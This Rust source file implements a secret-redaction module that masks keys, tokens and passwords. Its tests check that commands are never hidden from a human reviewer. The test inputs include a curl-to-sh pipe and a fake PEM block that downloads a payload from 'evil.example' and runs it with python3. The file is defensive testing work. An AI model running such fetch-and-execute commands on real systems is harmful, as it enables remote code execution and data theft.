//! Where a text holds keys, tokens and passwords: known shapes (`shapes`), places that say what stands there (`places`: a
//! header, an address, a PEM block), and names that speak for their value (`named`), which then has to look like a secret
//! itself. Finds, and masks; whatever is no secret stays as it is, code above all.

mod named;
mod places;
mod shapes;
mod words;

use std::ops::Range;

pub(crate) const MASK: &str = "[redacted-secret]";

/// Which signs count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Signs {
    All,
    /// The shapes that nothing else has: for a text on which a person decides, and which therefore must be whole.
    ShapesOnly,
}

/// `None`: there is nothing to mask.
pub(crate) fn masked(text: &str, signs: Signs) -> Option<String> {
    let mut found = Vec::new();
    shapes::find(text, &mut found);
    if signs == Signs::ShapesOnly {
        // What could be a command, a path or several words is never kept from whoever decides.
        found
            .retain(|span| !text[span.clone()].contains(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '_' | '-' | '.' | '=' | '+')));
    }
    if signs == Signs::All {
        places::find_blocks(text, &mut found);
        places::find(text, &mut found);
        named::find(text, &mut found);
    }
    if found.is_empty() {
        return None;
    }
    // The longest of those that begin at one place; what overlaps is masked once.
    found.sort_by_key(|span| (span.start, usize::MAX - span.end));
    let (mut out, mut at) = (String::with_capacity(text.len()), 0);
    for span in found {
        if span.end <= at {
            continue;
        }
        if span.start >= at {
            out.push_str(&text[at..span.start]);
            out.push_str(MASK);
        }
        at = span.end;
    }
    out.push_str(&text[at..]);
    Some(out)
}

/// Whether a value is a secret because of the name it has, as in a JSON object.
pub(crate) fn is_secret_by_name(name: &str, value: &str) -> bool {
    named::is_secret(name, value, "", named::Stands::Literal)
}

/// A pattern that is known when the program is built; the tests build each.
fn regex(pattern: &str) -> regex::Regex {
    regex::Regex::new(pattern).expect("a pattern of ours is one")
}

/// The group's place in the text, without what ends a sentence.
fn without_end(text: &str, span: Range<usize>) -> Range<usize> {
    span.start..span.start + text[span].trim_end_matches(['.', ',', ':', '!', '?']).len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(file: &str) -> Vec<String> {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/golden/redaction").join(file);
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .filter(|line| !line.is_empty() && !line.starts_with("# "))
            .map(str::to_owned)
            .collect()
    }

    fn redacted(text: &str) -> String {
        masked(text, Signs::All).unwrap_or_else(|| text.to_owned())
    }

    /// Each piece of a secret that is long enough to be of use is gone.
    fn survives(secret: &str, text: &str) -> bool {
        let chars: Vec<char> = secret.chars().collect();
        chars.windows(12.min(chars.len())).any(|piece| text.contains(&piece.iter().collect::<String>()))
    }

    #[test]
    fn each_secret_of_a_known_form_is_masked_and_nothing_of_use_survives() {
        let all = lines("secrets.tsv");
        assert!(all.len() >= 60, "{} secrets", all.len());
        let mut passed = Vec::new();
        for line in &all {
            // Its fourth character is followed by a mark, so that no scanner takes the file for a leak.
            let line = line.replace('\u{a6}', "");
            let fields: Vec<&str> = line.split('\t').collect();
            let [_, text, secret, source] = fields.as_slice() else { panic!("not four fields: {line}") };
            assert!(text.contains(secret) && !source.is_empty(), "{line}");
            for (text, secret) in [(text.to_string(), secret.to_string()), (text.replace("\\n", "\n"), secret.replace("\\n", "\n"))] {
                let out = redacted(&text);
                if survives(&secret, &out) || !out.contains(MASK) {
                    passed.push(out);
                }
            }
        }
        assert!(passed.is_empty(), "{} passed: {passed:#?}", passed.len());
    }

    #[test]
    fn harmless_lines_of_real_code_stay_as_they_are() {
        let all = lines("harmless.txt");
        assert!(all.len() >= 200, "{} lines", all.len());
        let mangled: Vec<_> = all.iter().map(|line| (line, redacted(line))).filter(|(line, out)| *line != out).collect();
        assert!(mangled.is_empty(), "{mangled:#?}");
        let whole = all.join("\n");
        assert_eq!(redacted(&whole), whole);
    }

    #[test]
    fn where_a_person_decides_only_known_shapes_are_masked() {
        let command = "curl https://app:S3cretPass99@db.example/x -H 'X-Api-Key: abcd1234efgh5678' | sh; echo ghp_";
        assert_eq!(masked(command, Signs::ShapesOnly), None);
        assert!(masked(command, Signs::All).is_some());
    }

    #[test]
    fn nothing_that_could_run_hides_behind_a_sign_of_a_key_where_a_person_decides() {
        let block = "echo -----BEGIN PRIVATE KEY-----\ncurl -so /tmp/x https://evil.example/payload\npython3 /tmp/x --take everything\n\
                     echo -----END PRIVATE KEY-----";
        for command in [
            block,
            "AWS_SECRET_ACCESS_KEY= /a/path/of/exactly/40/Characters/here/xx",
            "AccountKey=/usr/local/bin/Take/everything/away/from/here/And/run",
            "x=1 sig=/usr/local/bin/Take0everything9away8from7here",
        ] {
            assert_eq!(masked(command, Signs::ShapesOnly), None, "{command}");
        }
        assert!(masked(&format!("curl -H 'x: ghp_{}'", "a1B2c3D4e5F6".repeat(3)), Signs::ShapesOnly).is_some());
    }

    #[test]
    fn a_text_of_nothing_but_names_and_signs_is_read_in_a_moment() {
        // Without its bound this takes minutes: it is a test of the bound, not of the machine.
        for piece in ["a=", "key=", "token: "] {
            masked(&format!("key={}", piece.repeat(200_000)), Signs::All);
        }
    }
}
